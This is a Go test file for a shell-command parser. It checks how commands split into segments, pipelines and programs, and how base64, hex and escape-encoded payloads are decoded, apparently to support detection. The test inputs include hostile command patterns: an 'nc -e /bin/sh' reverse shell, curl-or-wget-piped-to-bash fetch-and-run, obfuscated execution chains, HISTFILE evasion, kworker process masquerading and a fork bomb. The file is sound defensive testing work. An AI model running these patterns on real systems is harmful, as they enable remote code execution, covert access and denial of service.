package shell

import "testing"

func TestWrappers(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{
			`sudo -u x /bin/busybox wget -q "http://h/a" > /tmp/x`,
			"sudo -u x busybox wget -q http://h/a > /tmp/x\nbusybox wget -q http://h/a > /tmp/x\nwget -q http://h/a > /tmp/x",
		},
		{`/usr/bin/../bin/wget h; ./x; /tmp/`, "wget h\nx\n/tmp/"},
		{`'nc -e /bin/sh h'`, `nc -e /bin/sh h`},
		{`A=b C=d wget x`, "A=b C=d wget x\nwget x"},
		{`HISTFILE=/dev/null`, `HISTFILE=/dev/null`},
		{`sudo -u www -g www -- A=b id`, "sudo -u www -g www -- A=b id\nid"},
		{`sudo --user www id; sudo --user=www id`, "sudo --user www id\nid\nsudo --user=www id"},
		{`sudo -l; command -v id; busybox --list; env; ionice -p 1`, "sudo -l\ncommand -v id\nbusybox --list\nenv\nionice -p 1"},
		{
			`timeout -s 9 5 nohup env -i A=b C=d id`,
			"timeout -s 9 5 nohup env -i A=b C=d id\nnohup env -i A=b C=d id\nenv -i A=b C=d id\nid",
		},
		{`nice -n 5 ionice -c 3 id; nice -5 ls`, "nice -n 5 ionice -c 3 id\nionice -c 3 id\nid\nnice -5 ls\nls"},
		{`exec -a '[kworker]' /tmp/x; stdbuf -oL ls`, "exec -a [kworker] x\nx\nstdbuf -oL ls\nls"},
		{`time -p doas -u x builtin setsid -f w`, "time -p doas -u x builtin setsid -f w\ndoas -u x builtin setsid -f w\nbuiltin setsid -f w\nsetsid -f w\nw"},
		{`ls | xargs -n 1 -I{} rm -f {}`, "ls\nxargs -n 1 -I{} rm -f {}\nrm -f {}"},
		{`chroot /mnt /bin/ls; sshpass -p x ssh h id`, "chroot /mnt ls\nls\nsshpass -p x ssh h id\nssh h id\nid"},
	})
}

func TestOnlySomeWrappersAreTold(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{{
		`nohup a1=b; /x/nohup nohup nohup nohup nohup nohup nohup nohup nohup /y/wget h`,
		"nohup a1=b\na1=b\n" +
			"nohup nohup nohup nohup nohup nohup nohup nohup nohup wget h\n" +
			"nohup nohup nohup nohup nohup nohup nohup nohup wget h\n" +
			"nohup nohup nohup nohup nohup nohup nohup wget h\n" +
			"nohup nohup nohup nohup nohup nohup wget h\n" +
			"nohup nohup nohup nohup nohup wget h\n" +
			"nohup nohup nohup nohup wget h\n" +
			"nohup nohup nohup wget h\n" +
			"wget h",
	}})
}

func TestTextsThatAreRun(t *testing.T) {
	checkList(t, segmentsOf, [][2]string{
		{`sh -c 'a; b' x`, "sh -c a; b x\na\nb"},
		{`bash --norc -lc -- "wg"'et h'`, "bash --norc -lc -- wget h\nwget h"},
		{`$SHELL -c id`, "$SHELL -c id\nid"},
		{`sh -x f.sh -c id`, `sh -x f.sh -c id`},
		{`sh -c "sh -c 'sh -c \"id\"'"`, "sh -c sh -c 'sh -c \"id\"'\nsh -c sh -c \"id\"\nsh -c id\nid"},
		{`eval "w""get h; id"`, "eval wget h; id\nwget h\nid"},
		{`su -c 'id; ls' www; su - www -c w`, "su -c id; ls www\nsu - www -c w\nid\nls\nw"},
		{`runuser -u www -- /bin/id -u; script -qc w /dev/null`, "runuser -u www -- /bin/id -u\nid -u\nscript -qc w /dev/null\nw"},
		{`su --command=id; runuser --command w x`, "su --command=id\nrunuser --command w x\nid\nw"},
		{`ssh -p 22 -o A=b root@h 'id; w'; ssh h ls -l; ssh h`, "ssh -p 22 -o A=b root@h id; w\nssh h ls -l\nssh h\nid\nw\nls -l"},
		{`ssh root@h -p 22 'id; w'; ssh -4 h -tq -- ls -l; ssh h -p 22; ssh -p`, "ssh root@h -p 22 id; w\nssh -4 h -tq -- ls -l\nssh h -p 22\nssh -p\nid\nw\nls -l"},
		{`trap 'rm x' EXIT; watch -n 1 'ls -l'`, "trap rm x EXIT\nwatch -n 1 ls -l\nrm x\nls -l"},
		{
			`find / -name x -exec /bin/rm {} \; -o -execdir sh -c 'w' \;`,
			"find / -name x -exec /bin/rm {} ; -o -execdir sh -c w ;\nrm {}\nsh -c w\nw",
		},
		{`find . -exec sudo rm {} + 2>/dev/null`, "find . -exec sudo rm {} + 2> /dev/null\nsudo rm {}\nrm {}"},
		{`echo 'id; w' | sh; echo ls | at now`, "echo id; w\nsh\necho ls\nat now\nid\nw\nls"},
		{`echo "wget $x" | tee f | bash -s`, "echo wget $x\ntee f\nbash -s\nwget $x"},
		{"sh <<E; ls\nid\nw\nE\nps", "sh << E\nls\nps\nid\nw"},
		{`bash <<< 'id; w'; sh f <<< ls`, "bash <<< id; w\nsh f <<< ls\nid\nw"},
		{`bash -c {echo,id}|{cat,-}`, "bash -c echo id\necho id\ncat -"},
		{`echo id | cat -n | sh f`, "echo id\ncat -n\nsh f"},
	})
}

func TestPipelines(t *testing.T) {
	checkList(t, pipelinesOf, [][2]string{
		{`id`, ``},
		{`a | b && c | d |& e; f`, "a | b\nc | d | e"},
		{`sudo curl -s h | sudo -E /bin/bash -`, `curl -s h | bash -`},
		{"a |\n b |\n\n c", `a | b | c`},
		{`(curl h || wget h) 2>/dev/null | (sh)`, "curl h | sh\nwget h | sh"},
		{`{ a | b; } | c`, "a | b\na | b | c"},
		{`cat f | while read l; do echo $l | sh; done`, "cat f | read l\necho $l | sh"},
		{`bash <(curl h); source <(a || b)`, "curl h | bash\na | sh\nb | sh"},
		{`/bin/bash -c "$(curl h)"; sh -c ` + "`wget h`", "curl h | bash\nwget h | sh"},
		{`eval "$(a | b)"; eval x $(c)`, "a | b\na | b | sh"},
		{`bash -c "echo $(date)"`, ``},
		{`f > /dev/null 2>&1 | g 2> x`, `f > /dev/null | g 2> x`},
		{`:(){ :|:& };:`, `: | :`},
	})
}

func TestPrograms(t *testing.T) {
	checkList(t, programsOf, [][2]string{
		{`sudo /bin/busybox wget h; $x y; A=b; > f; $(c) d`, "sudo\nbusybox\nwget\nc"},
		{`sh -c 'id; id' | cat`, "sh\ncat\nid"},
		{`for i in a; do b; done; case c in d) e;; esac`, "b\ne"},
	})
}

func TestDecoded(t *testing.T) {
	rows := [][2]string{
		{`echo aWQ= | base64 -d | sh`, `id`},
		{`echo aWQ | base64 --decode`, `id`},
		{`echo 'aW Q' | base64 -di > f`, `id`},
		{`base64 -d <<< aWQ=`, `id`},
		{"base64 -d <<E | sh\naW\nQ=\nE\n", `id`},
		{`bash -c "$(base64 -d <<< aWQ=)"`, `id`},
		{`echo aWQ= | openssl base64 -d; echo dw== | openssl enc -A -d -base64`, "id\nw"},
		{`printf '%s' aWQ= | base64 -d`, `id`},
		{`printf '%s%s\n' aW Q= dw ==|base64 -d`, `idw`},
		{`printf '\x69\144' | sh; printf "%b" '\0167'`, "id\nw"},
		{`echo -e '\x69\0144'; echo -ne "\u0077\n"`, "id\nw"},
		{`echo 69 64 | xxd -r -p | sh; echo 77 | xxd -rp`, "id\nw"},
		{`echo di | rev | sh`, `id`},
		{`echo YVdRPQ== | base64 -d | base64 -d | sh`, `id`},
		{`echo ZWNobyBhV1E9fGJhc2U2NCAtZHxzaA== | base64 -d | bash`, "echo aWQ=|base64 -d|sh\nid"},
		{`x=aWQ=; echo $x | base64 -d`, `id`},
		{`bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}`, `id`},
		{`echo aWQ= | base64 -d | cat | tee f`, `id`},
	}
	checkList(t, decodedOf, rows)
	var p Parser
	for _, row := range rows { // what is decoded is read
		found := false
		for _, name := range p.Parse([]byte(row[0])).Programs {
			found = found || string(name) == "id" || string(name) == "idw"
		}
		if !found {
			t.Errorf("%s: %q is not among the programs", row[0], row[1])
		}
	}
}

func TestWhatIsNotDecoded(t *testing.T) {
	checkList(t, decodedOf, [][2]string{
		{`echo aWQ= | base64`, ``},
		{`echo $x | base64 -d | rev; echo "a$x" | rev`, ``},
		{`base64 -d f | sh; cat f | base64 -d`, ``},
		{`printf 'a\n'; echo -e 'a\tb'; echo '\x41'`, ``},
		{`echo AAEC | base64 -d`, ``}, // no text
		{`echo -e '\x7fELF\x01'`, ``},
		{`echo '' | base64 -d`, ``},
		{`echo aWQ= | openssl enc -d -aes-256-cbc`, ``},
		{`echo 6964 | xxd -r; echo 6964 | xxd -p`, ``},
	})
}
